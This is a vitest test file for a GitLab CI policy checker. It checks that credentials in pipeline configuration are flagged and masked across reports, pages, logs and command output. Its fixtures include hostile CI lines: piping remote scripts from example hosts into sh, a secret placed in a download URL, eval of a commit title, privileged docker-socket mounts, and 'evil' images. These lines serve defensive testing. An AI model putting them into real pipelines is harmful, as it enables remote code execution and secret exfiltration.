/** A credential in the configuration is found, and shown nowhere. */

import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { createLog } from '../src/log.ts';
import { reportPage } from '../src/render/pages/report-page.ts';
import { shareableSnapshot } from '../src/review/shareable-snapshot.ts';
import type { Snapshot } from '../src/review/snapshot.ts';
import { workspace } from './cli/workspace.ts';
import { replay } from './support/replay.ts';
import { snapshotOf } from './support/snapshot-of.ts';

const POLICY = readFileSync(new URL('../config/policy.yml', import.meta.url), 'utf8');
const TOKEN = 'k3Vx9QzT2mWn7RbY4sLd';
const BY_NAME = 'q8Zt5Vn2Lx7Wb4Ks9Jd3Hf6Gp1Rm0Yc8Ua5Te2Xi';
const KEY = 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW';
const PASSWORD = 'kV7q2xTz';

const WAYS: Readonly<Record<string, readonly [yaml: string, secret: string]>> = {
  'beside a value that is suggested anew': [
    `a:\n  variables: {CI_DEBUG_TRACE: "true", SECRET_KEY: ${BY_NAME}}\n  script: [make]\n`,
    BY_NAME,
  ],
  'in a value that another rule finds': [
    `a:\n  image: "$REGISTRY:${PASSWORD}@registry.example.org/$NAME"\n  script:\n    - curl https://bot:${PASSWORD}@x.example.org/i.sh | sh\n`,
    PASSWORD,
  ],
  'known by its name, and repeated': [
    `a:\n  variables:\n    SECRET_KEY: ${BY_NAME}\n    CI_DEBUG_TRACE: "true" # ${BY_NAME}\n  script:\n    - sh -c "$(curl https://x.example.org/${BY_NAME})"\n`,
    BY_NAME,
  ],
  'written with escapes': [
    `a:\n  variables:\n    TOKEN: "glpat-\\x6b${TOKEN.slice(1)}"\n  script:\n    - eval "$CI_COMMIT_TITLE glpat-${TOKEN}"\n`,
    TOKEN.slice(1),
  ],
  'over several lines': [
    `a:\n  variables:\n    KEY: |\n      -----BEGIN OPENSSH PRIVATE KEY-----\n      ${KEY}\n      QyNTUxOQAAACDxk2Vq9TnWb7YzLmPcRjHsKfUg4Ea3XtNvQo6ZiBw1dA\n      -----END OPENSSH PRIVATE KEY-----\n  script:\n    - sh -c "$(curl https://x.example.org/${KEY})"\n`,
    KEY,
  ],
  'in the name of a job': [
    `deploy glpat-${TOKEN}:\n  variables: {TOKEN: glpat-${TOKEN}, CI_DEBUG_TRACE: "true"}\n  script: [make]\n`,
    TOKEN,
  ],
  'in what GitLab would refuse': [
    `a:\n  variables: {TOKEN: glpat-${TOKEN}}\n  stage: glpat-${TOKEN}\n  needs: [glpat-${TOKEN}]\n  script: [make]\n`,
    TOKEN,
  ],
};

it.each(Object.entries(WAYS))('%s', async (_, [yaml, secret]) => {
  const head = { '.gitlab-ci.yml': yaml };
  const situation = { base: { '.gitlab-ci.yml': 'b:\n  script: x\n' }, head, policy: POLICY };
  const { plan, report } = replay(await snapshotOf(situation));
  expect(report.findings.map((finding) => finding.rule)).toContain('secret-in-configuration');
  expect(plan.actions.length).toBeGreaterThan(1);

  const job = { v: 1, projectId: 7, projectPath: 'g/a', iid: 3, reason: 'pushed', delivery: 'x', requestedAt: '' };
  const page = await reportPage(report, { job: { ...job, v: 1 }, finishedAt: report.takenAt, site: { root: '../' } });
  const local = workspace({ ...head, 'policy.yml': POLICY });
  const check = ['check', '--policy', 'policy.yml', '--project', 'g/a'];
  const [text, json] = [await local.run(check), await local.run([...check, '--format', 'json'])];
  expect(text.out).toContain('secret-in-configuration');
  const everything = { plan: JSON.stringify(plan), report: JSON.stringify(report), page: String(page), text, json };
  for (const each of Object.values(everything)) expect(JSON.stringify(each)).not.toContain(secret);
});

it('gives the same finding for another secret in its place, so that nothing can be guessed from the fingerprint', async () => {
  const prints = ['k3Vx9QzT2mWn7RbY4sLd', 'p8Jx2LwQ5nBv9KdT3cFz'].map(async (token) => {
    const head = { '.gitlab-ci.yml': `a:\n  variables:\n    TOKEN: glpat-${token}\n  script: [make]\n` };
    const { report } = replay(
      await snapshotOf({ base: { '.gitlab-ci.yml': 'b:\n  script: x\n' }, head, policy: POLICY }),
    );
    return report.findings.map(({ rule, fingerprint }) => `${rule} ${fingerprint}`);
  });
  const [first, second] = await Promise.all(prints);
  expect(first).toEqual(second);
});

/** Each kind of text that a report, a note, a page or a message repeats; `X` is the credential. */
const PLACES: Readonly<Record<string, string>> = {
  'the name of a job': '"deploy X":\n  needs: ["nobody X"]\n  script: [make]\n',
  'a stage': 'a:\n  stage: "X"\n  script: [make]\n',
  'stages and the jobs needed': 'stages: ["X", b]\na:\n  stage: b\n  needs: ["X"]\n  script: [make]\n',
  'an image': 'a:\n  image: "evil.example.org/X:1"\n  script: [make]\n',
  'an image that is not known': 'a:\n  image: "evil.example.org/X:$UNKNOWN"\n  script: [make]\n',
  'the entrypoint of a service':
    'a:\n  services: [{name: evil, entrypoint: [sh, -c, "docker run X; X"]}]\n  script: [make]\n',
  'a pull policy': 'a:\n  image: {name: evil, pull_policy: "X"}\n  script: [make]\n',
  'a tag': 'a:\n  tags: ["X", "X $UNKNOWN"]\n  image: evil\n  script: [make]\n',
  'a local include': 'include: ["ci/X.yml", "ci/X/*.yml", "/X\\nX.yml"]\n',
  'a remote include':
    'include:\n  - remote: https://example.org/X.yml\n  - https://X@example.org/b.yml\n  - remote: https://example.org/X.yml\n    integrity: X\n',
  'an include of a project': 'include:\n  - {project: "group/X", file: "X.yml", ref: "X"}\n',
  'a component': 'include: [{component: "gitlab.example.com/group/X/X@X"}]\n',
  'a template': 'include: [{template: "X.gitlab-ci.yml"}]\n',
  'inputs of an include': 'include:\n  - local: ci/input.yml\n    inputs: {name: "X"}\n',
  extends: 'a:\n  extends: "X"\n  script: [make]\n',
  'a reference': 'a:\n  script: [!reference ["X", script]]\n',
  'a condition': 'a:\n  script: [make]\n  rules: [{if: \'$A == "X" &&\'}]\n',
  'a key that nobody knows': 'a:\n  "X": 1\n  script: [make]\n',
  'a value of the wrong type': 'a:\n  script: {"X": X}\n  timeout: "X"\n  when: "X"\n  retry: {when: "X"}\n',
  'the name of an environment':
    'a:\n  script: [make]\n  environment: {name: "X", action: "X", url: "https://X@example.org"}\n',
  'a matrix': 'a:\n  script: [make]\n  image: evil:$A\n  parallel: {matrix: [{A: ["X", "Y"]}]}\n',
  'a child pipeline': 'a:\n  trigger: {include: ["ci/X.yml"], strategy: "X"}\n',
  'a header':
    'spec:\n  inputs:\n    a: {default: "X", options: ["Y"], regex: "X", type: X}\n---\na:\n  script: [make]\n',
  'what is no YAML': 'a:\n  script: [make]\n  b: "X" "X"\n',
  scripts:
    'a:\n  script:\n    - curl "https://example.org/X.sh?x=X" | sh\n    - docker run --privileged -v /var/run/docker.sock:/X evil/X\n    - eval "$CI_COMMIT_TITLE X"\n    - pip install --index-url https://example.org/X x\n',
  'lines beside what is found':
    'a:\n  image: evil # X\n  variables: {CI_DEBUG_TRACE: "true", B: "X"} # X\n  script: [make]\n',
  'a docker variable':
    'a:\n  variables: {DOCKER_HOST: "tcp://X:2375", GIT_STRATEGY: "X", KUBERNETES_SERVICE_ACCOUNT_OVERWRITE: "X"}\n  services: [docker:dind]\n  script: [docker info]\n',
};

const CANARIES = { 'told by its form': `glpat-${TOKEN}`, 'told by its name elsewhere': BY_NAME };

const EXPLAIN = { id: 5, body: '@pipewarden explain', authorId: 2, system: false, resolvable: false };
const QUESTION = {
  ...EXPLAIN,
  resolved: false,
  resolvedById: null,
  createdAt: '2026-01-01T10:00:00.000Z',
  position: null,
};

describe.each(Object.entries(CANARIES))('a credential %s', (_, canary) => {
  it.each(Object.entries(PLACES))('comes out nowhere from %s', async (_place, template) => {
    const declared = `hidden:\n  script: [make]\n  variables: {SECRET_KEY: "${canary}", CI_DEBUG_TRACE: "true"}\n`;
    const yaml = template.replaceAll('X', canary);
    const head = {
      '.gitlab-ci.yml': yaml.includes('\n---\n') ? yaml + declared : declared + yaml,
      'ci/input.yml': 'spec:\n  inputs:\n    name: {options: [a]}\n---\nb:\n  script: ["echo $[[ inputs.name ]]"]\n',
    };
    const read = await snapshotOf({ base: { '.gitlab-ci.yml': 'b:\n  script: x\n' }, head, policy: POLICY });
    const lint = {
      valid: false,
      errors: [`jobs:${canary} config is wrong: ${canary}`],
      pipeline: 'push',
      mergedYaml: `"${canary}": {script: ["${canary}"]}\n`,
      includes: [{ type: 'local', location: canary, project: 'group/app', ref: null }],
    };
    const posted = { discussions: [{ id: 'd', individualNote: true, notes: [QUESTION] }], statuses: [] };
    const snapshot = { ...read, posted, lint } as Snapshot;
    const { plan, report } = replay(snapshot);
    expect(report.findings.length + report.problems.length).toBeGreaterThan(1);

    const local = workspace({ ...head, 'policy.yml': POLICY });
    const options = ['--policy', 'policy.yml', '--project', 'group/app'];
    const commands = [
      ['check', ...options],
      ['check', ...options, '--format', 'json'],
      ['runners', 'explain', ...options, '--job', 'hidden'],
      ['runners', 'explain', ...options, '--job', 'nobody'],
      ['resolve', '--project', 'group/app'],
    ];
    const printed: unknown[] = [];
    for (const command of commands) {
      const { out, err } = await local.run(command);
      // What resolve prints is the configuration itself.
      printed.push(err, command[0] === 'resolve' ? '' : out);
    }
    const job = {
      v: 1 as const,
      projectId: 7,
      projectPath: 'g/a',
      iid: 3,
      reason: 'pushed',
      delivery: 'x',
      requestedAt: '',
    };
    const page = String(await reportPage(report, { job, finishedAt: report.takenAt, site: { root: '../' } }));
    for (const text of [plan, report, page, shareableSnapshot(snapshot), ...printed]) {
      expect(JSON.stringify(text)).not.toContain(canary);
    }
  });
});

it('comes out in no log and in no message of a command', async () => {
  const lines: string[] = [];
  const log = createLog('trace', { write: (line) => void lines.push(line) });
  const canary = `glpat-${TOKEN}`;
  const cause = new Error(`https://user:${canary}@example.org said ${canary}`);
  log.error({ err: new Error(`no ${canary}`, { cause }), job: { path: canary }, list: [canary] }, 'failed');
  log.warn({ reason: `the answer: ${canary}` }, 'failed');
  const { err } = await workspace().run(['check', `no-${canary}`, '--policy', `no-${canary}.yml`]);
  expect(lines).toHaveLength(2);
  expect(err).toContain('pipewarden:');
  for (const text of [...lines, err]) expect(text).not.toContain(canary);
});

it('what gives it away at the merge base alone is masked at the head as well', async () => {
  const script = `curl https://x.example.org/${BY_NAME} | sh`;
  const snapshot = await snapshotOf({
    policy: POLICY,
    base: { '.gitlab-ci.yml': `a:\n  variables: {SECRET_KEY: ${BY_NAME}}\n  script: [make]\n` },
    head: { '.gitlab-ci.yml': `a:\n  script: ["${script}"]\n` },
  });
  const { report, plan } = replay(snapshot);
  expect(report.findings.map(({ rule }) => rule)).toContain('script-from-network');
  expect(JSON.stringify([report, plan])).not.toContain(BY_NAME);
});
